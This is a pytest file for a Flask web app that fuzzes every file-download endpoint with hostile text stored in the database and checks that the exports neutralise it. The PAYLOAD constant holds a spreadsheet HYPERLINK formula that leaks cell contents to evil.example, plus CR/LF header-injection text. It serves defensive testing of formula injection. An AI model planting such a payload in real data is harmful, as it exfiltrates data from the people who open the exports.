"""Every download, fuzzed: hostile text stored in the rows the files are built from never breaks a download.

The downloads are found, not listed: API operations whose answer is a file (from the OpenAPI document)
and console routes that hand out files (from the URL map). Each must have a way to be called below, so
a new download is fuzzed the day it is added. Control characters, formulas, CR/LF, emoji and long text
are written straight into the database, as data from before today's input rules would be.
"""
from __future__ import annotations

import csv
import io
import json
import re
import zipfile

import pytest
from openpyxl import load_workbook
from sqlalchemy import String, select

from app.extensions import db

FILE_TYPES = ("text/csv", "spreadsheetml", "application/pdf", "image/", "svg", "application/zip")
# Free text a person typed, in every table the downloads read.
FREE_TEXT = {"name", "display_name", "title", "public_title", "description", "detail", "public_detail", "body",
             "message", "org_name", "organiser_name", "evaluation", "address", "place_text", "holder_name",
             "issuer", "contact_name", "rating_comment", "answer", "availability", "note", "bio"}
STARTS = ("=", "@", "+", "-", "\t", "\r\n", " =", "\x0b=")
PAYLOAD = '{start}HYPERLINK("http://evil.example/?d="&A1,"点我")\x01\x0b\x1b\x7f\r\nX-Injected: 1 @SUM(1+1) 😀{id}'

# How each download is called: (who, path with {params}). Who is a demo account, or "volunteer".
API_CALLS = {
    "/cases/export.{fmt}": ("admin", ["/cases/export.csv", "/cases/export.xlsx"]),
    "/wishes/export.{fmt}": ("admin", ["/wishes/export.csv", "/wishes/export.xlsx"]),
    "/suggestions/export.{fmt}": ("admin", ["/suggestions/export.csv", "/suggestions/export.xlsx"]),
    "/admin/stats/export.csv": ("east_admin", ["/admin/stats/export.csv"]),
    "/admin/stats/export.xlsx": ("east_admin", ["/admin/stats/export.xlsx"]),
    "/admin/stats/monthly.xlsx": ("east_admin", ["/admin/stats/monthly.xlsx?month={month}"]),
    "/admin/stats/monthly-reports/{report_id}/file": ("east_admin", ["/admin/stats/monthly-reports/{report_id}/file"]),
    "/service-hours/export.csv": ("admin", ["/service-hours/export.csv"]),
    "/service-hours/export.xlsx": ("admin", ["/service-hours/export.xlsx"]),
    "/party-members/{member_id}/report.csv": ("admin", ["/party-members/{member_id}/report.csv"]),
    "/party-members/{member_id}/report.pdf": ("admin", ["/party-members/{member_id}/report.pdf"]),
    "/certificates/{code}/file": ("volunteer", ["/certificates/{cert_code}/file"]),
    "/activities/{activity_id}/code.png": ("admin", ["/activities/{activity_id}/code.png"]),
    "/admin/codes/{code_id}/image": ("east_admin", ["/admin/codes/{code_id}/image?kind=qrcode"]),
    "/admin/codes/sheet": ("east_admin", ["/admin/codes/sheet?ids={code_id}&kind=qrcode"]),
    "/representatives/{rep_id}/code": ("admin", ["/representatives/{rep_id}/code"]),
    "/me/export": ("volunteer", ["/me/export"]),
    "/points/cashouts/{cashout_id}/export.xlsx": ("east_admin", ["/points/cashouts/{cashout_id}/export.xlsx"]),
    "/points/entries/export.xlsx": ("east_admin", ["/points/entries/export.xlsx?community_id={east_id}&year={year}"]),
}
CONSOLE_CALLS = {
    "/console/codes/<int:code_id>/image": ("GET", "/console/codes/{code_id}/image", None),
    "/console/codes/sheet": ("POST", "/console/codes/sheet", {"ids": "{code_id}", "kind": "qrcode"}),
    "/console/stats/chart/<name>.svg": ("GET", "/console/stats/chart/status.svg", None),
    "/console/stats/export.<fmt>": ("GET", "/console/stats/export.csv", None),
    "/console/cases/export.<fmt>": ("GET", "/console/cases/export.xlsx", None),
    "/console/proofs/<string:code>.pdf": ("GET", "/console/proofs/{cert_code}.pdf", None),
    "/console/privacy-requests/<int:privacy_request_id>/export.zip":
        ("GET", "/console/privacy-requests/{privacy_request_id}/export.zip", None),
    "/console/points/cashouts/<int:cashout_id>.xlsx": ("GET", "/console/points/cashouts/{cashout_id}.xlsx", None),
}
CONSOLE_FILE_RULE = re.compile(r"(\.\w+|\.<\w+>|/image|/sheet|/file)$")


def api_downloads(app) -> set[str]:
    spec = app.extensions["gongzhi.api"].spec.to_dict()
    found = set()
    for path, operations in spec["paths"].items():
        for method, operation in operations.items():
            if not isinstance(operation, dict):
                continue
            content = (operation.get("responses", {}).get("200") or {}).get("content") or {}
            if any(kind in ct for ct in content for kind in FILE_TYPES):
                assert method == "get", (method, path)
                found.add(path.removeprefix("/mp/v1"))
    return found


def console_downloads(app) -> set[str]:
    return {rule.rule for rule in app.url_map.iter_rules()
            if rule.endpoint.startswith("console.") and CONSOLE_FILE_RULE.search(rule.rule)}


def test_every_download_has_a_fuzzed_call(app):
    assert api_downloads(app) == set(API_CALLS), "a download without a fuzzed call below"
    assert console_downloads(app) == set(CONSOLE_CALLS), "a console download without a fuzzed call below"


def _poison() -> None:
    """Hostile text in every free-text column of every row (as much as each column holds)."""
    n = 0
    for mapper in db.Model.registry.mappers:
        model = mapper.class_
        columns = [c for c in mapper.columns if c.name in FREE_TEXT and isinstance(c.type, String)
                   and c.table is model.__table__]
        if not columns:
            continue
        for obj in db.session.scalars(select(model)):
            for column in columns:
                n += 1
                suffix = f" {obj.id}"
                text = PAYLOAD.format(start=STARTS[n % len(STARTS)], id="") + "长" * 400
                limit = getattr(column.type, "length", None) or 2000
                setattr(obj, column.key, text[:limit - len(suffix)] + suffix)
    db.session.flush()


@pytest.fixture
def world(app, login, fake_wechat):
    from app.accounts.models import User
    from app.codes.models import Code
    from app.core.time import to_local, utcnow
    from app.members.models import PartyMember
    from app.stats import service as stats
    from app.suggestions.models import Representative
    from app.volunteering.models import Activity, ServiceHours
    from app.volunteering.states import APPROVED

    month = to_local(utcnow()).strftime("%Y-%m")
    stats.generate_monthly_reports(month)
    east = login("east_admin")
    report_id = east.get("/admin/stats/monthly-reports?limit=1").get_json()["items"][0]["id"]
    volunteer = db.session.scalar(select(User).join(ServiceHours, ServiceHours.user_id == User.id)
                                  .where(ServiceHours.status == APPROVED).limit(1))
    volunteer.openid = volunteer.openid or "fuzzed-volunteer"
    db.session.flush()
    params = {
        "month": month, "report_id": report_id,
        "member_id": db.session.scalar(select(PartyMember.id).where(PartyMember.status == "approved")),
        "activity_id": db.session.scalar(select(Activity.id)),
        "code_id": east.get("/admin/codes?limit=1").get_json()["items"][0]["id"],
        "rep_id": db.session.scalar(select(Representative.id)),
    }
    assert db.session.get(Code, params["code_id"]) is not None
    assert volunteer is not None and all(params.values()), params
    clients = {name: login(name) for name in ("admin", "east_admin")}
    clients["volunteer"] = login.resident(volunteer.openid)
    # A proof of the volunteer's approved hours, issued by the organisation that recorded them.
    assert clients["volunteer"].patch("/me", json={"real_name": "欧阳娜娜"}).status_code == 200
    asked = clients["volunteer"].post("/me/certificate-requests", json={"id_number": "11010519491231002X"})
    assert asked.status_code == 201, asked.get_json()
    issued = clients["admin"].post(f"/certificate-requests/{asked.get_json()[0]['id']}/issue")
    assert issued.status_code == 200, issued.get_json()
    params["cert_code"] = issued.get_json()["code"]
    params["privacy_request_id"] = _privacy_request(volunteer)
    from app.areas.models import Area

    east_id = db.session.scalar(select(Area.id).where(Area.name == "东城社区"))
    cashout = east.post("/points/cashouts", json={"community_id": east_id, "year": int(month[:4]), "income": "10000"})
    assert cashout.status_code == 201, cashout.get_json()
    params["cashout_id"] = cashout.get_json()["id"]
    params["east_id"], params["year"] = east_id, int(month[:4])
    _poison()
    return {"params": params, "clients": clients}


def _privacy_request(user) -> int:
    """A request to export the volunteer's data, in 东城 (east_admin's area)."""
    from datetime import timedelta

    from app.areas.models import Area
    from app.core.time import utcnow
    from app.privacy.models import EXPORT, PrivacyRequest

    east = db.session.scalar(select(Area).where(Area.name == "东城社区"))
    found = PrivacyRequest(user_id=user.id, kind=EXPORT, area_path=east.path, due_at=utcnow() + timedelta(days=15))
    db.session.add(found)
    db.session.flush()
    return found.id


def _assert_safe_download(res, label):
    assert res.status_code == 200, (label, res.status_code, re.findall(r"<main.*", res.get_data(as_text=True), re.S)[:1])
    disposition = res.headers.get("Content-Disposition", "")
    assert not re.search(r"[\x00-\x1f\x7f]", disposition), (label, disposition)
    assert "X-Injected" not in "".join(f"{k}{v}" for k, v in res.headers.items() if k != "Content-Disposition")
    data = res.get_data()
    kind = res.mimetype
    cells: list[str] = []
    if kind == "text/csv":
        cells = [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]
    elif "spreadsheetml" in kind:
        book = load_workbook(io.BytesIO(data))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (label, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        cells.append(cell.value)
    elif kind == "application/pdf":
        assert data.startswith(b"%PDF"), label
    elif kind == "application/zip":
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            held = json.loads(archive.read("data.json"))
        assert held["account"]["id"], label
        return []
    for value in cells:
        assert not value.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n")), (label, value[:60])
    return cells


@pytest.mark.parametrize("operation", sorted(API_CALLS))
def test_api_download_survives_hostile_stored_text(world, operation):
    who, urls = API_CALLS[operation]
    for url in urls:
        res = world["clients"][who].get(url.format(**world["params"]))
        _assert_safe_download(res, url)


def _forget_request_state(g) -> None:
    # The test's app context outlives requests, and the console keeps the signed-in user and the CSRF token on `g`.
    for name in ("gz_staff", "csrf_token"):
        g.pop(name, None)


@pytest.mark.parametrize("rule", sorted(CONSOLE_CALLS))
def test_console_download_survives_hostile_stored_text(world, client, rule):
    from flask import g

    from app.demo import DEMO_PASSWORD

    page = client.get("/console/login").get_data(as_text=True)
    _forget_request_state(g)
    token = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
    signed_in = client.post("/console/login", data={"username": "east_admin", "password": DEMO_PASSWORD,
                                                   "csrf_token": token})
    assert signed_in.status_code in (302, 303), signed_in.status_code
    _forget_request_state(g)
    method, url, form = CONSOLE_CALLS[rule]
    url = url.format(**world["params"])
    if method == "POST":
        codes_page = client.get("/console/codes")
        assert codes_page.status_code == 200, codes_page.status_code
        page = codes_page.get_data(as_text=True)
        token = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
        _forget_request_state(g)
        data = {k: v.format(**world["params"]) for k, v in form.items()} | {"csrf_token": token}
        res = client.post(url, data=data)
    else:
        res = client.get(url)
    _assert_safe_download(res, url)


def test_a_stored_formula_reaches_the_spreadsheet_as_text(world):
    """The attack of finding 6: a resident's description is a live formula in the staff's export."""
    cells = _assert_safe_download(world["clients"]["admin"].get("/cases/export.csv"), "cases")
    hostile = [c for c in cells if "HYPERLINK" in c]
    assert hostile and all(c.startswith("'") or c.lstrip(" ").startswith("HYPERLINK") for c in hostile)
